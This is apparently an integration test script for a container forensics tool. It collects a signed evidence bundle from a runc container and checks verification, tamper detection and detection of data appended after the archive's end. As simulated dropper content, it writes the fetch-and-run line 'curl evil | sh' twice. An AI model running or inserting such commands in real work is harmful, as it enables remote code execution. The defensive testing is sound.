#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# ward respond collect + ward forensics verify/show: a bundle collected from a runc container
# on an overlay root verifies (embedded and pinned key), holds the process artifacts, the
# executable, a bounded memory dump and the files the container wrote or deleted in its
# writable layer; changing one byte of one artifact makes verify fail and name it; data after
# the end-of-archive marker makes it fail and name the offset.
. "$(dirname "$0")/lib.sh"
. "$(dirname "$0")/respond/runc.sh"
r_need_runc
grep -qw overlay /proc/filesystems || t_require "no overlayfs"

LOWER=$T_TMP/lower; UPPER=$T_TMP/upper; WORK=$T_TMP/work; ROOT=$T_TMP/merged
r_rootfs "$LOWER"
echo "lower file" >"$LOWER/etc/victim.conf"
mkdir -p "$UPPER" "$WORK" "$ROOT"
mount -t overlay overlay -o "lowerdir=$LOWER,upperdir=$UPPER,workdir=$WORK" "$ROOT"
t_on_exit "umount -l '$ROOT'"
CFG=$T_TMP/ward.yaml
KEY=$T_TMP/keys/host.key
cat >"$CFG" <<YAML
respond:
  key: $KEY
  collect_mem_mb: 2
YAML

MARK=collect-marker-$$
r_run "wc-$$" "$T_TMP/b1" "$ROOT" 0 sh -c "echo 'curl evil | sh # $MARK' > /tmp/dropper.sh; rm /etc/victim.conf; sleep 1000 & exec sleep 1001 # $MARK"
CID=$R_ID
t_wait_for "[ -f $UPPER/tmp/dropper.sh ] && [ \$(wc -l < /sys/fs/cgroup/unified/docker/$CID/cgroup.procs) -ge 2 ]" 10

B=$T_TMP/case.tar
"$WARD" -c "$CFG" respond collect --container "${CID:0:12}" -o "$B" --json >"$T_TMP/c.json"
t_check "collect event ok" grep -q '"action":"collect".*"result":"ok"' "$T_TMP/c.json"
t_check "host key created 0600" bash -c "[ \$(stat -c %a $KEY) = 600 ] && [ -s $KEY.pub ]"
t_check "verify (embedded key) succeeds" "$WARD" forensics verify "$B"
t_check "verify --key succeeds" bash -c "'$WARD' forensics verify '$B' --key '$KEY.pub' | grep -q 'given with --key'"

tar -tf "$B" >"$T_TMP/list"
t_check "manifest, signature and key present" bash -c "grep -qx manifest.json $T_TMP/list && grep -qx manifest.sig $T_TMP/list && grep -qx hostkey.pub $T_TMP/list"
t_check "process tree present" grep -qx tree.json "$T_TMP/list"
for f in cmdline environ status maps cgroup mountinfo fds.txt net/tcp net/unix exe mem/regions.txt; do
  t_check "artifact proc/$R_PID/$f present" grep -qx "proc/$R_PID/$f" "$T_TMP/list"
done
t_check "a memory region was dumped" grep -q "^proc/$R_PID/mem/.*\.bin$" "$T_TMP/list"
t_check "memory dump within collect_mem_mb (2 MiB)" python3 -c '
import tarfile,sys
t=tarfile.open(sys.argv[1]); n=sum(m.size for m in t.getmembers() if "/mem/" in m.name and m.name.endswith(".bin"))
assert 0 < n <= 2<<20, n' "$B"
t_check "executable copy equals the container's sleep" bash -c \
  "cmp <(tar -xOf '$B' proc/$R_PID/exe) '$LOWER/bin/busybox'"
t_check "dropped file from the writable layer" bash -c "tar -xOf '$B' container/upper/tmp/dropper.sh | grep -q '$MARK'"
t_check "deleted lower file recorded as whiteout" bash -c \
  "tar -xOf '$B' container/upper.json | python3 -c 'import json,sys; d=json.load(sys.stdin); assert any(e[\"path\"]==\"etc/victim.conf\" and e[\"type\"]==\"whiteout\" for e in d[\"entries\"])'"
t_check "show prints the container id" bash -c "'$WARD' forensics show '$B' | grep -q 'container: $CID'"
t_check "show --json is valid JSON with the manifest" bash -c \
  "'$WARD' forensics show '$B' --json | python3 -c 'import json,sys; d=json.load(sys.stdin); assert d[\"verified\"] and d[\"manifest\"][\"meta\"][\"target\"][\"container_id\"]==\"$CID\"'"

# tamper: change one byte inside the cmdline artifact's data, in place
cp "$B" "$T_TMP/tampered.tar"
python3 - "$T_TMP/tampered.tar" "proc/$R_PID/cmdline" <<'PY'
import sys, tarfile
path, name = sys.argv[1:]
with tarfile.open(path) as t:
    off = t.getmember(name).offset_data
with open(path, "r+b") as f:
    f.seek(off)
    b = f.read(1)
    f.seek(off)
    f.write(bytes([b[0] ^ 0x01]))
PY
set +e
"$WARD" forensics verify "$T_TMP/tampered.tar" >"$T_TMP/v.out"; rc=$?
set -e
t_check "tampered bundle fails verification (exit 1)" [ "$rc" = 1 ]
t_check "failure names the artifact" grep -qx "artifact: proc/$R_PID/cmdline" "$T_TMP/v.out"
set +e
"$WARD" forensics verify "$T_TMP/tampered.tar" --json >"$T_TMP/v.json"
set -e
t_check "JSON failure names the artifact" python3 -c '
import json,sys; d=json.load(open(sys.argv[1])); assert not d["verified"] and d["failed_artifact"]==sys.argv[2], d' "$T_TMP/v.json" "proc/$R_PID/cmdline"

# a different host key does not verify the original
"$WARD" -c "$CFG" respond collect --pid "$R_PID" -o "$T_TMP/other.tar" >/dev/null  # key exists: reused
printf 'respond:\n  key: %s\n' "$T_TMP/keys2/host.key" >"$T_TMP/ward2.yaml"
"$WARD" -c "$T_TMP/ward2.yaml" respond collect --pid "$R_PID" -o "$T_TMP/k2.tar" --zstd >/dev/null
t_check "zstd bundle verifies" "$WARD" forensics verify "$T_TMP/k2.tar"

# issue 19 fault 10: a member appended after the end-of-archive marker (tar -i lists it) or
# any non-zero byte there fails verification and names the marker's offset; zero padding to
# the 10240-byte tar record does not
END=$(stat -c %s "$B")
echo "curl evil | sh" >"$T_TMP/evil.sh"
tar -b 1 -C "$T_TMP" -cf "$T_TMP/evil.tar" evil.sh
cat "$B" "$T_TMP/evil.tar" >"$T_TMP/hidden.tar"
t_check "tar -i lists the appended member" bash -c "tar -tif '$T_TMP/hidden.tar' | grep -qx evil.sh"
set +e
"$WARD" forensics verify "$T_TMP/hidden.tar" >"$T_TMP/h.out"; rc=$?
set -e
t_check "appended member fails verification (exit 1)" [ "$rc" = 1 ]
t_check "failure names the end-of-archive offset" grep -q "after the end-of-archive marker at offset $END " "$T_TMP/h.out"
{ cat "$T_TMP/k2.tar"; zstd -qc "$T_TMP/evil.tar"; } >"$T_TMP/hidden.tar.zst"
t_check "zstd bundle with an appended frame fails" bash -c "! '$WARD' forensics verify '$T_TMP/hidden.tar.zst' | grep -q '^OK'"
cp "$B" "$T_TMP/padded.tar"
truncate -s $(( (END + 10239) / 10240 * 10240 )) "$T_TMP/padded.tar"
t_check "zero padding to the tar record verifies" "$WARD" forensics verify "$T_TMP/padded.tar"
set +e
"$WARD" forensics verify "$B" --key "$T_TMP/keys2/host.key.pub" >"$T_TMP/wk.out"; rc=$?
set -e
t_check "wrong pinned key fails on manifest.json" bash -c "[ $rc = 1 ] && grep -qx 'artifact: manifest.json' $T_TMP/wk.out"
t_check "pid bundle verifies with the first key" "$WARD" forensics verify "$T_TMP/other.tar" --key "$KEY.pub"
set +e
"$WARD" -c "$CFG" respond collect --pid "$R_PID" -o "$B" >/dev/null 2>&1; rc=$?
set -e
t_check "collect never overwrites an existing bundle" [ "$rc" = 1 ]
t_done
